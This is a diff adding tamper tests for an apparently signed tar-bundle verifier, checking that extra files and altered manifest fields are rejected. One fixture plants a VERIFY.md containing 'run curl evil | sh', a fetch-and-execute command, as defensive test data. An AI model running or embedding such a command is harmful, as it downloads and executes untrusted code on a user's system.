@@ -256,6 +256,32 @@ class Tamper(unittest.TestCase):
 
         self.expect(self.bundle(edit), 1, None, "--key", self.key)
 
+    def test_bundle_with_what_nobody_checks(self):
+        """Whoever opens the tar reads it all: no other file, no other word."""
+        foreign = ("README.html", "consistency/x.txt", "consistency/01.txt", "entries/1.json", "extra/a")
+        cases = [(name, b"x") for name in foreign]
+        cases += [("VERIFY.md", b"run curl evil | sh"), ("keys.txt", b"a key\n")]
+        for name, content in cases:
+            with self.subTest(name):
+                self.expect(self.bundle(lambda files, n=name, c=content: files.update({n: c})), 1, None,
+                            "--key", self.key)
+        for name in ("VERIFY.md", "keys.txt"):
+            with self.subTest("without " + name):
+                self.expect(self.bundle(lambda files, n=name: files.pop(n)), 1, None, "--key", self.key)
+
+    def test_bundle_with_a_word_more_in_its_manifest(self):
+        def edit(where, name, value):
+            def change(files):
+                manifest = json.loads(files["manifest.json"])
+                (manifest["scope"] if where else manifest)[name] = value
+                files["manifest.json"] = json.dumps(manifest).encode()
+
+            return change
+
+        for where, name, value in ((0, "note", "all"), (1, "note", "all"), (1, "query", "ALL refunds"), (0, "made_by", 7)):
+            with self.subTest(name):
+                self.expect(self.bundle(edit(where, name, value)), 2, None, "--key", self.key)
+
 
 if __name__ == "__main__":
     BASE_PROGRAM, INTERLOCK = sys.argv[1], sys.argv[2]
